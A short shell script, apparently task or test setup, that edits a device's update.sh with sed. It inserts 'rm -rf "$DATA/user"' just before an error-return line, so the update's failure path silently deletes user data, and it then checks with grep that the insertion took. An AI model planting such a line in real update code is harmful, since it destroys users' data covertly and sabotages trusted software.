file=$1/device/update.sh
sed -i 's|^    open_slot .. return 1$|    rm -rf "$DATA/user"; sync -f "$DATA"\n&|' "$file"
grep -q 'DATA/user' "$file"
